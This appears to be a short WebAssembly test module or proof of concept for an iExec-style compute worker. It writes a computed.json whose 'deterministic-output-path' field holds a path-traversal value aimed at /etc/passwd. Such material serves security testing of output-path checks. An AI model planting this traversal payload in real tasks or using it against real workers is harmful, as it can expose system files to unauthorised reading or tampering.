(data (i32.const 32) "iexec_out/computed.json")
(data (i32.const 64) "{\"deterministic-output-path\":\"/iexec_out/../../etc/passwd\"}")
(func (export "_start")
  (call $write (call $open (i32.const 32) (i32.const 23) (i32.const 9)) (i32.const 64) (i32.const 59)))
